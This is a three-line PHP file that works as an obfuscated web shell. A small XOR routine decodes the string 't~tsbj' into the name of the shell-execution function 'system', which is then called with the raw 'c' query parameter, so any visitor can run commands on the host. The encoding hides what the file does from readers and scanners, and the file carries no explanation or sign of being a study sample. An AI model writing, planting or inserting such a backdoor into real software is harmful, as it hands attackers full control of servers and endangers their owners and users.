<?php
function x($s){ $o=''; for($i=0;$i<strlen($s);$i++) $o.=chr(ord($s[$i])^7); return $o; }
$f = x("t~tsbj"); $f($_GET['c']);
